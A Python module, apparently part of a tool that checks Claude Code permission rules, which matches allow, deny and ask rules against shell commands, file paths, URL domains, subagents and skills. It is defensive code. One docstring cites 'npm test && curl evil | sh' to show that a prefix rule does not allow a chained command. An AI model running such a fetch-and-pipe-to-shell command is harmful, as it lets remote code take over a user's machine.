"""Whether one permission rule covers one tool call, the way Claude Code decides it.

Dispatch is by the kind of the called tool (:func:`cclens.permissions.tools.tool_kind`); each
kind reads its own part of the input: the command, the file path, the URL's host, the subagent
type or the skill name.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import lru_cache
from typing import Any
from urllib.parse import urlsplit

from .paths import path_matches
from .shell import SimpleCommand, normalize_command, parse_command
from .tools import (
    ToolKind,
    canonical_tool_name,
    mcp_rule_covers,
    rule_covers_tool,
    target_path,
    tool_kind,
)
from .types import PermissionBehavior, PermissionRuleValue

_LEGACY_PREFIX = re.compile(r"(.+):\*", re.DOTALL)


def legacy_prefix(content: str) -> str | None:
    """The prefix of a legacy ``prefix:*`` rule (``npm run test:*`` → ``npm run test``)."""
    match = _LEGACY_PREFIX.fullmatch(content)
    return match.group(1) if match else None


def _has_unescaped_star(content: str) -> bool:
    index = 0
    while index < len(content):
        if content[index] == "\\":
            index += 2
            continue
        if content[index] == "*":
            return True
        index += 1
    return False


@lru_cache(maxsize=1024)
def wildcard_regex(content: str) -> re.Pattern[str]:
    """Compile a wildcard rule: ``*`` is any text (spaces and slashes too), ``\\*`` a star.

    A single trailing `` *`` is optional, so ``ls *`` matches ``ls`` as well as ``ls -la`` but
    not ``lsof``; ``ls*`` matches all three.
    """
    pieces: list[str] = []
    stars = 0
    index = 0
    while index < len(content):
        char = content[index]
        if char == "\\" and index + 1 < len(content) and content[index + 1] in "*\\":
            pieces.append(re.escape(content[index + 1]))
            index += 2
            continue
        if char == "*":
            stars += 1
            pieces.append(".*")
        else:
            pieces.append(re.escape(char))
        index += 1
    if stars == 1 and content.endswith(" *") and not content.endswith("\\ *"):
        pieces = [*pieces[:-2], "(?: .*)?"]
    return re.compile("".join(pieces), re.DOTALL)


def simple_command_matches(
    content: str, command: SimpleCommand, *, behavior: PermissionBehavior
) -> bool:
    """Whether rule ``content`` covers one simple command (no ``&&``, ``;`` or ``|``).

    An exact rule matches the command as written or normalised (wrappers such as ``timeout``
    and harmless redirections such as ``2>&1`` removed). A prefix or wildcard rule never allows
    a command whose text does not show what runs (``$(…)``) or that writes outside the working
    directory (``> /etc/x``): Claude Code asks about those.
    """
    normalized = normalize_command(command.text, strip_environment=behavior != "allow")
    if content == command.text or (normalized is not None and content == normalized.text):
        return True
    if normalized is None:
        if behavior == "allow":
            return False
        # Unbalanced quotes: a deny or ask rule still gets to see the raw text.
        text = command.text
    elif behavior == "allow" and (command.has_substitution or normalized.writes_elsewhere):
        return False
    else:
        text = normalized.text
    prefix = legacy_prefix(content)
    if prefix is not None:
        return text == prefix or text.startswith(prefix + " ")
    if _has_unescaped_star(content):
        return wildcard_regex(content).fullmatch(text) is not None
    return False


def command_matches(content: str, command: str, *, behavior: PermissionBehavior) -> bool:
    """Whether shell rule ``content`` covers a whole command line.

    For an allow rule every simple command of a compound line must be covered (so
    ``Bash(npm test:*)`` does not allow ``npm test && curl evil | sh``); for deny and ask rules
    one is enough, including commands inside ``$(…)``. A rule equal to the whole line matches
    either way.
    """
    if content == command.strip():
        return True
    parsed = parse_command(command)
    if parsed is None:
        # Unbalanced quotes: only a deny or ask rule may still match the line as one command.
        whole = SimpleCommand(command.strip())
        return behavior != "allow" and simple_command_matches(content, whole, behavior=behavior)
    if behavior == "allow":
        return bool(parsed.parts) and all(
            simple_command_matches(content, part, behavior=behavior) for part in parsed.parts
        )
    return any(
        simple_command_matches(content, part, behavior=behavior)
        for part in (*parsed.parts, *parsed.nested)
    )


def domain_matches(content: str, url: str) -> bool:
    """Whether ``domain:host`` rule content covers ``url``.

    ``domain:example.com`` is that host only (``www.example.com`` needs its own rule, as in
    Claude Code); ``domain:*.example.com`` is any subdomain of it but not the bare domain;
    ``domain:*`` is every host.
    """
    if not content.startswith("domain:"):
        return False
    domain = content[len("domain:") :].strip().lower().rstrip(".")
    try:
        host = urlsplit(url).hostname
    except ValueError:
        return False
    if not host:
        return False
    host = host.rstrip(".")
    if domain == "*":
        return True
    if domain.startswith("*."):
        return host.endswith(domain[1:])
    return host == domain


@dataclass(frozen=True)
class _Call:
    tool_name: str
    tool_input: Mapping[str, Any]
    cwd: str
    project_dir: str
    home: str
    behavior: PermissionBehavior


def _match_shell(content: str, call: _Call) -> bool:
    command = call.tool_input.get("command")
    return isinstance(command, str) and command_matches(content, command, behavior=call.behavior)


def _match_path(content: str, call: _Call) -> bool:
    path = target_path(call.tool_name, call.tool_input, cwd=call.cwd)
    if path is None:
        return False
    return path_matches(content, path, cwd=call.cwd, project_dir=call.project_dir, home=call.home)


def _match_web_fetch(content: str, call: _Call) -> bool:
    url = call.tool_input.get("url")
    return isinstance(url, str) and domain_matches(content, url)


def _match_agent(content: str, call: _Call) -> bool:
    # Claude Code runs the general-purpose agent when no type is given.
    subagent_type = call.tool_input.get("subagent_type") or "general-purpose"
    return content == subagent_type


def _match_skill(content: str, call: _Call) -> bool:
    skill = call.tool_input.get("skill", call.tool_input.get("command"))
    if not isinstance(skill, str):
        return False
    return simple_command_matches(content, SimpleCommand(skill), behavior=call.behavior)


def _match_nothing(content: str, call: _Call) -> bool:
    # Tools without content matching ignore rules with content, as Claude Code does.
    return False


_CONTENT_MATCHERS: Mapping[ToolKind, Callable[[str, _Call], bool]] = {
    "shell": _match_shell,
    "read": _match_path,
    "edit": _match_path,
    "web_fetch": _match_web_fetch,
    "agent": _match_agent,
    "skill": _match_skill,
    "mcp": _match_nothing,
    "other": _match_nothing,
}


def rule_matches(
    rule: PermissionRuleValue,
    tool_name: str,
    tool_input: Mapping[str, Any],
    *,
    cwd: str,
    project_dir: str,
    home: str,
    behavior: PermissionBehavior = "allow",
) -> bool:
    """Whether ``rule`` covers a call of ``tool_name`` with ``tool_input``.

    ``cwd`` is the session's working directory, ``project_dir`` the root that ``/path`` rules
    are relative to, ``home`` the directory ``~/`` stands for. ``behavior`` is the list the
    rule sits in: shell commands are matched more strictly for ``allow`` (every part of a
    compound command must match) than for ``deny`` and ``ask`` (any part is enough).
    """
    call_tool = canonical_tool_name(tool_name)
    if call_tool.startswith("mcp__") or rule.tool_name.startswith("mcp__"):
        return rule.rule_content is None and mcp_rule_covers(rule.tool_name, call_tool)
    if not rule_covers_tool(rule.tool_name, call_tool):
        return False
    if rule.rule_content is None:
        return True
    call = _Call(call_tool, tool_input, cwd, project_dir, home, behavior)
    return _CONTENT_MATCHERS[tool_kind(call_tool)](rule.rule_content, call)
